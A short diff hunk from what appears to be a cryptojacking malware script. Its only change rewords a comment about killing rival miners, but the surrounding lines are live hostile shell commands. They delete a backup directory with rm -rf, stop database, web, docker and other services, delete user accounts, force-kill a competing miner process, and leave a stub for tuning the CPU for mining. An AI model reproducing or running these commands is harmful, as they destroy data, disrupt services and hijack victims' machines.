@@ -15,7 +15,7 @@ rm -rf /var/backups/x
 for n in mysql nginx docker php redis cups; do systemctl stop $n; done
 ## Many accounts locked
 for n in 1 2 3 4 5 6; do userdel nobody$n; done
-## Rival miners killed
+## Miners of others ended by name
 pkill -9 -f kdevtmpfsi
 ## Machine tuned for mining
 #setup stubs /usr/sbin/wrmsr
